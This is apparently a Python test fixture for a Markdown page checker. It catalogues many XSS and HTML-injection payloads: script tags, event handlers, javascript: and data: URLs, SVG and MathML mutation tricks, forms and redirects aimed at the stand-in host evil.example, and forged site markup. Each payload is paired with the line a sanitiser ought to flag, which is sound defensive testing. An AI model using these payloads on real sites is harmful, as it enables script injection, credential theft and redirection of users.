"""What might somebody write into a page that has no place there?  By kind, one a line.

Each runs, if it runs, `top.ran=1`; what it would load lies at evil.example. The line to blame is the
one that a payload stands on, or, where `#{` parts it from the attributes that Markdown gives to
it, the line of these or the heading above.
"""

RAN = "top.ran=1"

SCRIPTS = """
<script>RAN</script>
<SCRIPT>RAN</SCRIPT>
<script type="module">RAN</script>
<script src="https://evil.example/x.js"></script>
<script src="../assets/x.js"></script>
<script type="application/json">{}</script>
<script type="text/plain" data-src="https://evil.example/x.js"></script>
<script/x>RAN</script/x>
<scr<script>ipt>RAN</script>
Text <script>RAN</script> within a sentence.
- a list <script>RAN</script>
> a quotation <script>RAN</script>
<div><script>RAN</script></div>
<svg><script>RAN</script></svg>
<math><script>RAN</script></math>
<template><script>RAN</script></template>
<noscript><p title="</noscript><img src=x onerror=RAN>"></noscript>
<table><tr><td><script>RAN</script></td></tr></table>
<details><summary>x</summary><script>RAN</script></details>
"""

HANDLERS = """
<img src="../x.png" alt="" onerror="RAN">
<div><IMG SRC=../x.png ALT=x ONERROR=RAN></div>
<div><img src=../x.png alt=""onerror=RAN></div>
<img/src=../x.png/onerror=RAN>
<body onload="RAN">
<svg/onload=RAN>
<svg onload="RAN"><path d="M0 0"/></svg>
<details open ontoggle="RAN"><summary>x</summary></details>
<video src="../x.mp4" onloadstart="RAN"></video>
<audio src="../x.mp3" onerror="RAN"></audio>
<video><source onerror="RAN"></video>
<a title="x"onclick="RAN">x</a>
<a href="#" onmouseover="RAN">x</a>
<p/onclick="RAN">x</p>
<p ONCLICK="RAN">x</p>
<p onpointerenter=RAN>x</p>
<div hidden="until-found" onbeforematch="RAN">x</div>
<div id="x" tabindex="0" autofocus onfocus="RAN">x</div>
<p onanimationstart="RAN">x</p>
<marquee onstart="RAN">x</marquee>
<table><tr onclick="RAN"><td>x</td></tr></table>
<math><mi onclick="RAN">x</mi></math>
<svg><path onclick="RAN" d="M0 0"/></svg>
<svg><animate onbegin="RAN" attributeName="x" dur="1s"/></svg>
<b onxyz="RAN">x</b>
"""

ADDRESSES = """
<a href="javascript:RAN">x</a>
<a href=javascript:RAN>x</a>
<A HREF="JaVaScRiPt:RAN">x</A>
<a href = "javascript:RAN">x</a>
<a href="&#106;avascript:RAN">x</a>
<a href="&#x6A;&#x61;vascript&colon;RAN">x</a>
<a href="java&#9;script:RAN">x</a>
<a href="java&#10;script:RAN">x</a>
<a href="java&Tab;script&colon;RAN">x</a>
<a href="&#1;javascript:RAN">x</a>
<a href="  javascript:RAN">x</a>
<a href="vbscript:RAN">x</a>
<a href="data:text/html,<script>RAN</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>
<a href="blob:https://evil.example/1">x</a>
<a href="filesystem:https://evil.example/x">x</a>
<a href="view-source:x">x</a>
<a href="intent://x">x</a>
[x](javascript:RAN)
[x](JAVASCRIPT:RAN)
[x](<java&#9;script:RAN>)
[x](data:text/html;base64,PHNjcmlwdD4=)
![x](javascript:RAN)
<img src="javascript:RAN" alt="">
<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="">
<img srcset="data:image/png;base64,AA 1x" src="../x.png" alt="">
<svg><a href="javascript:RAN"><text>x</text></a></svg>
<svg><a xlink:href="javascript:RAN"><text>x</text></a></svg>
<math href="javascript:RAN"><mi>x</mi></math>
<math><maction actiontype="statusline" xlink:href="javascript:RAN"><mi>x</mi></maction></math>
<q cite="javascript:RAN">x</q>
<video src="javascript:RAN"></video>
"""

ELEMENTS = """
<iframe srcdoc="&lt;script&gt;RAN&lt;/script&gt;"></iframe>
<iframe src="javascript:RAN"></iframe>
<iframe src="https://evil.example/"></iframe>
<object data="../x.svg"></object>
<object data="data:text/html,<script>RAN</script>"></object>
<embed src="../x.svg">
<applet code="x"></applet>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<div><meta http-equiv=refresh content=0;url=//evil.example></div>
<meta http-equiv="Content-Security-Policy" content="script-src *">
<link rel="stylesheet" href="https://evil.example/x.css">
<link rel="preload" as="script" href="https://evil.example/x.js">
<style>body { display: none }</style>
<style>@import "https://evil.example/x.css";</style>
<form action="//evil.example"><input name="x"></form>
<form><button formaction="javascript:RAN">x</button></form>
<input type="text" name="x">
<input type="image" src="https://evil.example/x.png">
<input type="password">
<button>x</button>
<select><option>x</option></select>
<textarea>x</textarea>
<dialog open>x</dialog>
<canvas></canvas>
<map name="m"><area href="javascript:RAN"></map>
<template shadowrootmode="open"><p>x</p></template>
<slot name="x"></slot>
<x-element>x</x-element>
<p is="x-p">x</p>
<marquee>x</marquee>
<font color="red">x</font>
<center>x</center>
<noembed>x</noembed>
<noframes>x</noframes>
<frameset><frame src="javascript:RAN"></frameset>
<portal src="https://evil.example/"></portal>
<bgsound src="javascript:RAN">
<head><title>x</title></head>
<html lang="fr">
<main>x</main>
"""

WRECKS = """
<plaintext>
<xmp>
<textarea>
<title>
</article>
</div></article></main>
</body>
</html>
</div>
</section>
<div>
<div/>
<section><p>x</p>
<table><tr><td>x
<ul><li>x
<blockquote>x
<details><summary>x</summary>
<a href="#">x
<b>x
Text with <i>a slant.
<select>
<p><b><i>x</b></i></p>
<div><p>x</div></span>
<tr><td>x</td></tr>
<p title="a" title="b">x</p>
<p class="a"class="b">x</p>
<p title="a"id="b">x</p>
<p =x>x</p>
<br clear="all">
"""

DRAWINGS = """
<svg><use href="https://evil.example/x.svg#a"/></svg>
<svg><use xlink:href="data:image/svg+xml,x#a"/></svg>
<svg><image href="https://evil.example/x.png"/></svg>
<svg><foreignObject><body onload="RAN"></body></foreignObject></svg>
<svg><foreignObject><iframe src="javascript:RAN"></iframe></foreignObject></svg>
<svg><set attributeName="onmouseover" to="RAN"/></svg>
<svg><animate attributeName="href" values="javascript:RAN"/></svg>
<svg><style>@import "https://evil.example/x.css";</style></svg>
<svg><title><img src=x onerror=RAN></title></svg>
<svg><desc><script>RAN</script></desc></svg>
<svg><rect fill="url(https://evil.example/x.svg#a)"/></svg>
<svg><rect fill="u\\72l(https://evil.example/x.svg#a)"/></svg>
<svg><rect filter="url(https://evil.example/x.svg#a)"/></svg>
<svg><![CDATA[><img src=x onerror=RAN>]]></svg>
<svg></p><style><a id="</style><img src=x onerror=RAN>"></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RAN&gt;"></table></mtext></math>
<math><mi><style><img src=x onerror=RAN></style></mi></math>
<math><annotation-xml encoding="text/html"><script>RAN</script></annotation-xml></math>
<math><mglyph src="https://evil.example/x.png"></mglyph></math>
<math><semantics><mi>x</mi></semantics></math>
"""

STYLES = """
<p style="position:fixed;inset:0">x</p>
<td style="color: red">x</td>
<span style=x>x</span>
<p STYLE="background:url(https://evil.example/x.png)">x</p>
A paragraph.#{ style="color: red" }
"""

LOADS = """
<img src="https://evil.example/x.png" alt="">
<img src="//evil.example/x.png" alt="">
<img src="\\\\evil.example/x.png" alt="">
<img src="ht&#9;tps://evil.example/x.png" alt="">
<img src="../x.png" srcset="https://evil.example/x.png 2x" alt="">
<img src="../x.png" srcset="../../x.png 1x,//evil.example/x.png 2x" alt="">
<picture><source srcset="https://evil.example/x.webp"><img src="../x.png" alt=""></picture>
<video src="https://evil.example/x.mp4"></video>
<video poster="https://evil.example/x.png" src="../x.mp4"></video>
<audio src="https://evil.example/x.mp3"></audio>
<video><track src="https://evil.example/x.vtt"></video>
![x](https://evil.example/x.png)
![x](//evil.example/x.png)
"""

ATTRIBUTES = """
<a href="#" ping="https://evil.example/">x</a>
<a href="#" target="_blank">x</a>
<a href="https://evil.example/" referrerpolicy="unsafe-url">x</a>
<p nonce="x">x</p>
<p contenteditable>x</p>
<p popover>x</p>
<p slot="x">x</p>
<p part="x">x</p>
<p accesskey="x">x</p>
<p inert>x</p>
<p itemscope>x</p>
<p srcdoc="x">x</p>
<p xmlns="http://www.w3.org/2000/svg">x</p>
<p background="https://evil.example/x.png">x</p>
<img src="../x.png" alt="" name="body">
<img src="../x.png" alt="" usemap="#m">
<img src="../x.png" alt="" crossorigin>
<video src="../x.mp4" autoplay></video>
<div data-md-component="dialog">x</div>
<div data-sim="x.json">x</div>
A paragraph.#{ onclick="RAN" }
## A heading #{ onclick="RAN" }
[x](index.md)#{ onclick="RAN" }
[x](index.md)#{ target="_blank" }
![x](x.png)#{ onerror="RAN" }
"""

FORGERIES = """
<a class="claim" href="../evidence/#C1">shown here, 500 of 500 runs</a>
<a href="../evidence/#C1" class="x claim">shown here, 500 of 500 runs</a>
<a class=claim href="#">shown here</a>
<a class="cite" href="#">Nobody 2020</a>
<a class="term" href="#">term</a>
<figure class="sim" id="fig-coin"><figcaption>x</figcaption></figure>
<figure class="sim"><p class="sim-say">All coins fall heads.</p></figure>
<div class="sim-plot">x</div>
<div class="sim-fault" role="alert">docs/page.md:1: all is well.</div>
<strong class="sim-fault">all is well</strong>
<ol class="evidence"><li>x</li></ol>
<ul class="references"><li>x</li></ul>
<dl class="glossary"><dt>x</dt></dl>
<details class="answer right"><summary>x</summary></details>
<section class="question">x</section>
<p class="guessed">x</p>
<div class="md-dialog">x</div>
<label class="md-overlay" for="__drawer">x</label>
<p class="book-title">x</p>
<p id="claim-C1">x</p>
<p id="fig-coin">x</p>
<p id="__config">x</p>
<a name="fig-coin">x</a>
<p id="card">x</p>
[shown here, 500 of 500 runs](index.md)#{ .claim }
*shown here*#{ .claim }
A paragraph.#{ .sim-say }
A paragraph.#{ #fig-coin }
A paragraph.#{ class="sim-fault" }
"""

GONE = """
<img src="gone.png" alt="">
<IMG SRC=gone.png ALT="">
<img src="../x.png" srcset="gone.png 2x" alt="">
<video src="gone.mp4" controls></video>
<video controls src="../x.mp4" poster="gone.png"></video>
<audio controls><source src="gone.mp3"></audio>
<video controls><track src="gone.vtt"></video>
<A HREF="gone/">x</A>
<a href="../index/#gone">x</a>
<a href="page.md">x</a>
<a href="#gone">x</a>
"""

KINDS = {
    "scripts": SCRIPTS,
    "handlers": HANDLERS,
    "addresses": ADDRESSES,
    "elements": ELEMENTS,
    "wrecks": WRECKS,
    "drawings": DRAWINGS,
    "styles": STYLES,
    "loads": LOADS,
    "attributes": ATTRIBUTES,
    "forgeries": FORGERIES,
    "gone": GONE,
}
BLOCKS = {  # of several lines: the text, and what stands on the line that is to blame
    "a comment that is never closed": ("<!-- a comment\n\nthat is never closed", "<!-- a"),
    "a tag over two lines": ('<p\nonclick="RAN">x</p>', "<p"),
    "a script over lines": ("<div>\n\n<script>\nRAN\n</script>\n\n</div>", "<script>"),
    "an attribute that is never closed": ('<p title="x>x</p>\n\n"y', "<p title"),
    "in a caption": (
        '/// simulation | coin(tosses=100)\nEach line. <b onclick="RAN">x</b>\n///',
        "<b onclick",
    ),
    "that leaves a caption": (
        "/// simulation | coin(tosses=100)\nEach </figcaption></figure> line.\n///",
        "</figcaption>",
    ),
    "that leaves a caption and comes back": (
        "/// simulation | coin(tosses=100)\nEach </figcaption><p>x</p><figcaption> line.\n///",
        "</figcaption>",
    ),
    "in a fold": ("/// details | More\n<b onclick=RAN>x</b>\n///", "<b onclick"),
    "in a fold's title": ("/// details | <b onclick=RAN>x</b>\nText.\n///", "/// details"),
    "a block's own attributes": (
        "/// details | More\n    attrs: {class: sim-fault}\nText.\n///",
        "sim-fault",
    ),
    "a block's own handler": (
        "/// details | More\n    attrs: {onclick: top.ran=1}\nText.\n///",
        "top.ran",
    ),
    "a link by reference": ("[x][y]\n\n[y]: javascript:RAN", "[y]: "),
    "after the same in code": (
        "`<b onclick>`\n\n```html\n<b onclick>\n```\n\n<b onclick>x</b>",
        "<b onclick>x",
    ),
    "the second of two": ("<b title>x</b>\n\n<b title>x\n", "<b title>x\n"),
}

TOP = "---\ntitle: A page\n---\n# A page\n\nText.\n\n## The section\n\nMore text.\n\n"
END = "\n\nThe end.\n"


def pages() -> dict[str, tuple[str, str, str, set[int]]]:
    """(kind, name, source, lines of which one is to be blamed) of a page for each payload, by its
    file."""
    made = []
    for kind, rows in KINDS.items():
        for row in filter(None, rows.replace("RAN", RAN).splitlines()):
            body, parted, attributes = row.partition("#{")
            between = "\n" if parted and body == "A paragraph." else ""
            source = TOP + body + between + parted[1:] + attributes + END
            at = _line(source, body.split("\n")[0])
            made.append(
                (kind, row, source, {at, at + 1, _line(source, "## The")} if parted else {at})
            )
    for name, (text, where) in BLOCKS.items():
        source = TOP + text.replace("RAN", RAN) + END
        made.append(("blocks", name, source, {_line(source, where)}))
    return {f"p{number:03}.md": page for number, page in enumerate(made)}


def _line(source: str, words: str) -> int:
    return source[: source.index(words)].count("\n") + 1


RIGHT = [
    "Keys <kbd>Ctrl</kbd>, H<sub>2</sub>O, x<sup>2</sup>, <mark>m</mark>, <small>s</small>, <b>b</b>, <u>u</u>, <s>s</s>, <q>q</q>.",
    'An <abbr title="HyperText &quot;ML&quot;">HTML</abbr>, <dfn>word</dfn>, <var>x</var>, <samp>out</samp>, <code>a &lt; b</code>.',
    'A <time datetime="2020-01-01">day</time>, a<br>b, a<br/>b, long<wbr>word, <ins>new</ins> and <del>old</del>.',
    '<span lang="fr" dir="ltr" class="numeral lead" title="un">un</span> <bdi>x</bdi> <ruby>x<rp>(</rp><rt>y</rt><rp>)</rp></ruby>',
    '<img src="../x.png" alt="A picture" width="10" height="10" loading="lazy">',
    '<img src="../x.png" srcset="../x.png 1x, ../x.png?2 2x" sizes="10px" alt="">',
    '<picture><source srcset="../x.png" type="image/png" media="(min-width: 1px)"><img src="../x.png" alt=""></picture>',
    '<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" alt="">',
    '<video controls src="../x.mp4" poster="../x.png" width="10" muted playsinline preload="none"></video>',
    '<audio controls preload="none"><source src="../x.mp3" type="audio/mpeg">No sound.</audio>',
    '<figure><img src="../x.png" alt=""><figcaption>A caption.</figcaption></figure>',
    "<details open><summary>More</summary><p>Text.</p></details>",
    '<table><caption>T</caption><thead><tr><th scope="col">a</th><th colspan="2">b</th></tr></thead><tbody><tr><td rowspan="2" align="right">1</td><td>2</td><td>3</td></tr></tbody></table>',
    "<table><tr><td>no body<td>no end</table>",
    "<ul><li>a<li>b</ul>",
    '<ol start="3" reversed type="a"><li value="3">c</li></ol>',
    "<dl><dt>a<dd>b<dt>c<dd>d</dl>",
    "<p>one<p>two",
    '<div class="grid cards" role="note" aria-label="x" id="here">div</div>',
    "<section><header><h3 id='claim-and-counter-claim'>x</h3></header><aside>y</aside><footer>z</footer></section>",
    "<blockquote>x</blockquote>",
    '<a href="https://example.org/?a=1&b=2" rel="noopener" hreflang="en">out</a> <a href="//example.org">there</a>',
    '<a href="mailto:a@example.org">mail</a> <a href="tel:+1">call</a> <a name="legacy">x</a> <a href="#legacy">up</a>',
    '<a href="../x.png" download>a file</a> <a href="../page/">a page</a> <A HREF="../page/?a=b#the-page">a place</A>',
    '<svg viewBox="0 0 9 9" role="img" aria-label="x"><g transform="translate(1 1)" fill="none" stroke="#000"><path d="M0 0h1"/><circle cx="1" cy="1" r="1"/><text x="1" text-anchor="middle">x</text></g></svg>',
    '<math display="inline"><mfrac><mi>x</mi><mn>2</mn></mfrac></math> and $\\frac{x}{2} < 3$',
    "Less: 1 < 2, a <3, AT&T, &copy;, &nbsp; and 5 > 4; `<script>top.ran=1</script>` and &lt;script>.",
    "<!-- a comment --> Text. <!--sim 0--> <!--sim 9999--> <!-- {{ coin.heads }} -->",
    "<!-- <script>top.ran=1</script> -->",
    'A paragraph.\n{ .lead #named title="x" lang="en" }',
    "## A heading { #named .stratum .stratum--1 }",
    "## Claim and counter-claim\n\n## Fig leaves",
    '![A picture](x.png){ width="10" loading="lazy" }',
    '[out](https://example.org/){ rel="nofollow" .md-button .md-button--primary }',
    "<https://example.org/> <a@example.org>",
    "| a | b |\n| :- | -: |\n| 1 | 2 |",
    "- [ ] one\n- [x] two",
    "A note[^1] twice[^1].\n\n[^1]: The note, with `code`.",
    "/// details | More\nText with <kbd>x</kbd>.\n///",
    "/// tab | One\nText.\n///\n\n/// tab | Two\nText.\n///",
    "/// question | Why?\n- [ ] a\n  no\n- [x] b\n  yes\n- [ ] c\n  no\n///",
    "/// simulation | coin(tosses=100) over tosses\nEach line, <kbd>x</kbd>, is **one** run of `a < b`.\n///",
    '```html\n<script>top.ran=1</script>\n<p style="x" class="sim">\n```',
    "$$\nE[x] = \\sum_k k\n$$",
    # Markdown itself takes these for text
    "<IMG SRC=../x.png ALT=x ONERROR=top.ran=1>",
]


def right() -> dict[str, str]:
    """The source of a page for each piece of right Markdown, by its file."""
    return {f"r{number:03}.md": TOP + text + END for number, text in enumerate(RIGHT)}
